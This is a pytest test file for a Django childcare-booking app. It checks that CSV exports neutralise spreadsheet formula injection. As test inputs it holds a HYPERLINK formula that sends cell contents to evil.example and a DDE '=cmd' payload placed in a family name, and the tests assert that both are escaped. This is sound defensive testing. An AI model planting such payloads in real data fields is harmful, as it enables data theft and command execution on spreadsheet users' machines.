"""Every CSV export neutralises formula cells (CSV injection): a value a family or an agent
typed that starts with = + - @ (or a hidden tab / carriage return) opens as text in a
spreadsheet; numbers stay numbers; UTF-8 with BOM and `;` for French Excel."""

import csv
import io

from django.utils import timezone

from ribambelle.activities.models import Opening
from ribambelle.bookings import services
from ribambelle.bookings.services import BookingChange
from ribambelle.core.exports import csv_response

from .conftest import client_for
from .factories import FamilyFactory, HealthRecordFactory, InvoiceFactory, PaymentFactory
from .test_bookings import setup  # noqa: F401 - the fixture

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1;"Cliquez")'


def _rows(response) -> list[list[str]]:
    body = response.content
    assert body.startswith("\ufeff".encode()), "UTF-8 with BOM for Excel"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def test_the_writer_neutralises_every_formula_start_and_keeps_numbers():
    cells = ["=1+1", "+33 6", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-12,50", "Léa", ""]
    [header, row] = _rows(csv_response(filename="x.csv", header=["a"] * len(cells), rows=[cells]))
    assert row == ["'=1+1", "'+33 6", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1", "-12,50", "Léa", ""]


def test_attendance_export_neutralises_a_childs_allergies(tenant_a, setup):  # noqa: F811
    activity = setup["activity"]
    today = timezone.localdate()
    activity.start_date = today
    activity.save()
    opening = Opening.objects.create(
        organisation=tenant_a.organisation,
        activity=activity,
        unit=setup["day"],
        group=setup["group"],
        date=today,
        capacity=10,
    )
    lea = setup["lea"]
    lea.last_name = "@MARTIN"
    lea.save()
    services.save_bookings(
        child=lea, changes=[BookingChange(opening.pk, True)], acting_user=tenant_a.admin, as_staff=True
    )
    HealthRecordFactory(organisation=tenant_a.organisation, family=lea.family, child=lea, allergies=HYPERLINK)
    response = client_for(tenant_a.admin).get(tenant_a.url(f"gestion/activites/{activity.pk}/presences/?format=csv"))
    rows = _rows(response)
    assert rows[0][:3] == ["Groupe", "Nom", "Prénom"]
    assert "'" + HYPERLINK in rows[1] and "'@MARTIN" in rows[1]


def test_invoice_and_payment_exports_neutralise_family_names_and_references(tenant_a):
    family = FamilyFactory(organisation=tenant_a.organisation, name="=cmd|' /C calc'!A0")
    InvoiceFactory(organisation=tenant_a.organisation, family=family, family_name=family.name)
    PaymentFactory(organisation=tenant_a.organisation, family=family, reference="+33612345678", amount=-5)
    admin = client_for(tenant_a.admin)
    invoices = _rows(admin.get(tenant_a.url("gestion/facturation/factures/?format=csv")))
    assert any(cell.startswith("'=cmd") for cell in invoices[1])
    payments = _rows(admin.get(tenant_a.url("gestion/facturation/reglements/?format=csv")))
    assert "'+33612345678" in payments[1] and "-5,00" in payments[1]
